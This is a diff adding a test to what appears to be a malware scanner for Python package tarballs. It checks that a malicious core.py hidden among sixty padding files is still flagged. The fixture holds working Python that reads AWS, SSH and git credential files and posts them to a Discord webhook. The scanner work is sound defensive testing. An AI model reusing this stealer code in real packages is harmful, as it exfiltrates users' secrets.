@@ -181,3 +181,26 @@ describe('inspect through dist/cli.js', () => {
     expect(outside.gaps).toContainEqual(expect.objectContaining({ path: 'p-1.0/setup.py' }));
   });
 });
+
+describe('a padded payload through dist/cli.js', () => {
+  it('is scored by its own file, named in the notes, and stays malicious', () => {
+    // Evidence only in a function the API calls (nothing decides alone): the model decides, on the unit.
+    const core =
+      'import os, requests, platform\n\ndef render(rows):\n    home = os.path.expanduser("~")\n    data = {}\n    for name in (".aws/credentials", ".ssh/id_rsa", ".git-credentials"):\n        try:\n            data[name] = open(os.path.join(home, name)).read()\n        except OSError:\n            pass\n    requests.post("https://discord.com/api/webhooks/1/x", json={"host": platform.node(), "files": data})\n    return rows\n';
+    const pad = Array.from({ length: 60 }, (_, i) => ({
+      path: `p-1.0/p/util${i}.py`,
+      data: `def width_${i}(text):\n    return max((len(line) for line in text.splitlines()), default=0)\n`,
+    }));
+    const padded = inspect(
+      'padded-1.0.tar.gz',
+      makeTarGz([
+        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
+        { path: 'p-1.0/p/__init__.py', data: 'from .core import render\n' },
+        { path: 'p-1.0/p/core.py', data: core },
+        ...pad,
+      ]),
+    ) as Inspected & { notes?: string[] };
+    expect(padded).toMatchObject({ status: 'ok', verdict: 'malicious' });
+    expect(padded.notes?.join('\n')).toMatch(/scored by p-1\.0\/p\/core\.py alone/);
+  });
+});
